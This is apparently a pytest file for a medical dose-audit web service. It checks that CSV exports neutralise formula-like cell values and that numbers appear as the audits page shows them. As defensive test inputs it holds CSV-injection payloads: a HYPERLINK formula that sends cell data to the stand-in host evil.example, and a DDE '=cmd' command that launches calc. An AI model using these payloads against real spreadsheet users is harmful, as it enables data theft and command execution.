"""Audit CSV: written by the exports' neutralising writer, numbers as the audits page shows them (issues 20, 21)."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from typing import Any

import pytest
from flask.testing import FlaskClient

from schemas.display import format_number
from service.audits.run import AuditResult, find_audit, to_csv
from service.ingest.document import save_fragment
from service.storage import Store
from tests import auditdata as data
from tests.auditdata import NOW

#: the audits page's column labels (units left off), by the CSV's column names
COLUMNS = {
    "Acquisition protocol": "name", "Station": "station", "Count": "count", "Mean": "mean", "25th percentile": "p25",
    "Median": "median", "75th percentile": "p75", "Minimum": "min", "Maximum": "max",
}  # fmt: skip


def csv_rows(client: FlaskClient, url: str) -> list[dict[str, str]]:
    response = client.get(url)
    assert response.status_code == 200, response.get_data(as_text=True)
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_station_and_protocol_that_look_like_formulas_are_neutralised(client: FlaskClient, store: Store) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    for protocol, station in ((hostile, "=1+1"), ("@SUM(A1)", "+CT2"), ("-2+3", "CT3")):
        fragment = data.ct([(protocol, 100.0)], when=datetime(2025, 1, 5), station=station)
        save_fragment(store, fragment, now=NOW)
    rows = csv_rows(client, "/api/audits/ct_dlp_by_protocol?format=csv&per_station=yes")
    assert sorted((r["name"], r["station"]) for r in rows) == [
        ("'-2+3", "CT3"), ("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'=1+1"), ("'@SUM(A1)", "'+CT2"),
    ]  # fmt: skip
    json_rows = client.get("/api/audits/ct_dlp_by_protocol?per_station=yes").get_json()["rows"]
    assert "=1+1" in {row["station"] for row in json_rows}  # JSON keeps the value as sent


def test_every_text_cell_of_any_audit_is_neutralised(client: FlaskClient, store: Store) -> None:
    fragment = data.fluoro(3.0, 1.0, 600.0, ["=2*3"], when=datetime(2025, 1, 5), station="=cmd|'/C calc'!A0")
    save_fragment(store, {**fragment, "study_description": "=1+2"}, now=NOW)  # DAP 3 Gy·m²: above the alert level
    alerts = client.get("/api/audits/high_dose_alerts?format=csv").get_data(as_text=True)
    assert "'=cmd|'/C calc'!A0" in alerts and "'=1+2" in alerts
    assert ",=" not in alerts and not alerts.startswith("=")
    protocols = client.get("/api/audits/rf_dap_by_protocol?format=csv&per_station=yes").get_data(as_text=True)
    assert "'=2*3" in protocols and ",=" not in protocols


def test_numbers_are_written_as_the_table_shows_them_or_in_full(client: FlaskClient, store: Store) -> None:
    for dlp in (1.1, 2.2, 3.3, 1234.5678, 46881.3):  # mean 9624.48..., p25 2.2, median 3.3
        save_fragment(store, data.ct([("CHEST", dlp)], when=datetime(2025, 1, 5)), now=NOW)
    json_row = client.get("/api/audits/ct_dlp_by_protocol").get_json()["rows"][0]
    shown = csv_rows(client, "/api/audits/ct_dlp_by_protocol?format=csv")[0]
    full = csv_rows(client, "/api/audits/ct_dlp_by_protocol?format=csv&precision=full")[0]
    assert json_row["mean"] == pytest.approx(9624.49356)
    assert shown["mean (mGy·cm)"] == "9624"  # four significant figures, as the page shows it (9,624)
    assert (shown["p75 (mGy·cm)"], shown["max (mGy·cm)"]) == ("1235", "46881")  # never fewer than the integer digits
    assert (shown["min (mGy·cm)"], shown["count"]) == ("1.1", "5")
    assert full["mean (mGy·cm)"] == repr(json_row["mean"]) and full["max (mGy·cm)"] == "46881.3"
    assert shown["mean (mGy·cm)"] == format_number(json_row["mean"]).replace(",", "")


def test_a_bad_precision_is_400_naming_it(client: FlaskClient) -> None:
    response = client.get("/api/audits/ct_dlp_by_protocol?format=csv&precision=exact")
    assert response.status_code == 400 and "precision" in response.get_json()["errors"]


def test_the_blank_group_has_no_raw_name_rather_than_none(client: FlaskClient, store: Store) -> None:
    for protocol, dlp in ((None, 5.8149999999999995), ("CHEST", 200.0)):
        save_fragment(store, data.ct([(protocol, dlp)], when=datetime(2025, 1, 5)), now=NOW)  # type: ignore[list-item]
    rows = csv_rows(client, "/api/audits/ct_dlp_by_protocol?format=csv&names=standard")
    blank = next(row for row in rows if row["name"] == "")
    assert blank["raw_names"] == "" and "None" not in blank.values()
    assert blank["median (mGy·cm)"] == "5.815"
    assert next(row for row in rows if row["name"] == "CHEST")["raw_names"] == "CHEST"


def test_several_raw_names_and_flags_read_as_the_table_shows_them() -> None:
    result = AuditResult(
        find_audit("ct_dlp_by_protocol"),
        {},
        {},
        [{"name": "Head", "raw_names": ["HEAD", None, "Head routine"], "median": 0.000051234, "above_reference": True}],
    )
    [row] = list(csv.DictReader(io.StringIO(to_csv(result))))
    assert row == {
        "name": "Head",
        "raw_names": "HEAD; Head routine",
        "median (mGy·cm)": "0.00005123",
        "above_reference": "true",
    }


def test_the_csv_holds_the_figures_the_page_shows(page: Any, client: FlaskClient, store: Store) -> None:
    dlps = [2.675, 0.0051234, 1234.5678, 46881.3, 99999.5, 12.345, 5.8149999999999995, 200.5]
    for n, dlp in enumerate(dlps):
        save_fragment(store, data.ct([(f"P{n % 3}", dlp)], when=datetime(2025, 1, 5)), now=NOW)
    page.set_viewport_size({"width": 1400, "height": 1800})
    page.goto("/audits?audit=ct_dlp_by_protocol")
    page.wait_for_selector("body[data-ready=true]", timeout=30000)
    headers = page.locator("#results thead th").all_inner_texts()
    table = [
        dict(zip(headers, row.locator("td").all_inner_texts(), strict=True))
        for row in page.locator("#results tbody tr").all()
    ]
    rows = csv_rows(client, "/api/audits/ct_dlp_by_protocol?format=csv")
    unitless = [{key.split(" (")[0]: value for key, value in row.items()} for row in rows]
    assert len(table) == len(unitless) == 3
    for shown, written in zip(table, unitless, strict=True):  # the page heads its columns with labels and units
        assert {COLUMNS[key.split(" (")[0]]: value.replace(",", "") for key, value in shown.items()} == written
